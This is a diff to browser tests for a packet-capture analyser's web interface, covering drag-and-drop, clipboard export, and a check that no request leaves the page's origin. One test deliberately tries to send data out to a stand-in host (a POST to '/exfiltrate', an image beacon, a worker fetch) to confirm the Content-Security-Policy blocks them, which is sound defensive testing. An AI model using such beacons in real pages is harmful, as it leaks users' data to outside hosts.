@@ -22,8 +22,10 @@ const { server, origin } = await serve(DIST);
 const { context, close } = await launch();
 const page = await context.newPage();
 const offOrigin = [];
+const seen = new Set();
 const watch = (req) => {
   const u = req.url();
+  seen.add(u);
   if (!(u.startsWith(origin + '/') || u.startsWith('blob:') || u.startsWith('data:'))) offOrigin.push(u);
 };
 context.on('request', watch);
@@ -133,6 +135,30 @@ test('exported JSON is the report, and equals `tcpopt analyze --format json`', a
   }
 });
 
+test('drag and drop, and the Wireshark filter and Markdown copied to the clipboard', async () => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
+  const job = (await page.evaluate(() => window.tcpopt.job)) + 1;
+  await page.evaluate(async () => {
+    const blob = await (await fetch('samples/tw-recycle-drop.pcapng')).blob();
+    const dt = new DataTransfer();
+    dt.items.add(new File([blob], 'dropped.pcapng'));
+    const zone = document.getElementById('drop');
+    zone.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
+    zone.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
+  });
+  await page.waitForFunction((j) => document.body.dataset.doneJob === String(j), job, { timeout: 30000 });
+  const li = page.locator('#findings li[data-code="TW_RECYCLE_PER_HOST_PAWS_DROP"]');
+  await li.locator('button', { hasText: 'Copy Wireshark filter' }).click();
+  const filter = await page.evaluate(() => navigator.clipboard.readText());
+  assert.match(filter, /^frame\.number in \{.*\b11\.\.14\b.*\}$/);
+  assert.equal(filter, await li.locator('.filter').textContent());
+  await page.click('#export-md');
+  await page.waitForFunction(() => /copied/i.test(document.getElementById('export-status').textContent));
+  const md = await page.evaluate(() => navigator.clipboard.readText());
+  assert.match(md, /^## tcpopt: dropped\.pcapng/);
+  assert.match(md, /\| critical \| `TW_RECYCLE_PER_HOST_PAWS_DROP` \|/);
+});
+
 test('a file that is not a capture: a clear error, then the next upload works', async () => {
   const junk = path.join(tmp, 'notes.txt');
   fs.writeFileSync(junk, 'These are my notes about the outage, not a capture.\n'.repeat(20));
@@ -221,6 +247,30 @@ test('the clock plot draws 150,000 points without freezing (wheel zoom, drag, ke
 });
 
 test('no request leaves the page origin; no uncaught page error', () => {
+  // The watcher sees the worker's own fetches too (the wasm is fetched by the worker).
+  assert.ok([...seen].some((u) => u.endsWith('_bg.wasm')), `worker requests observed: ${[...seen].join(' ')}`);
   assert.deepEqual(offOrigin, []);
   assert.deepEqual(pageErrors, []);
+});
+
+test('the Content-Security-Policy blocks a request to another origin, from the page and from the worker', async () => {
+  const r = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    let fetched = 'no';
+    try { await fetch('http://198.51.100.77/exfiltrate', { method: 'POST', body: 'x' }); fetched = 'yes'; } catch { fetched = 'blocked'; }
+    const img = new Image(); img.src = 'http://198.51.100.77/pixel.gif';
+    await new Promise((res) => { img.onerror = res; img.onload = res; setTimeout(res, 2000); });
+    // A worker spun up from the page's own origin is bound by the same policy.
+    const workerResult = await new Promise((res) => {
+      const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://198.51.100.77/w').then(() => postMessage('yes'), () => postMessage('blocked'))"], { type: 'text/javascript' })));
+      w.onmessage = (e) => res(e.data); w.onerror = () => res('worker refused'); setTimeout(() => res('timeout'), 3000);
+    });
+    await new Promise((res) => setTimeout(res, 100));
+    return { fetched, violations, workerResult };
+  });
+  assert.equal(r.fetched, 'blocked');
+  assert.ok(r.violations.includes('connect-src'), JSON.stringify(r.violations));
+  assert.ok(r.violations.includes('img-src'), JSON.stringify(r.violations));
+  assert.notEqual(r.workerResult, 'yes', 'a worker cannot fetch another origin');
 });
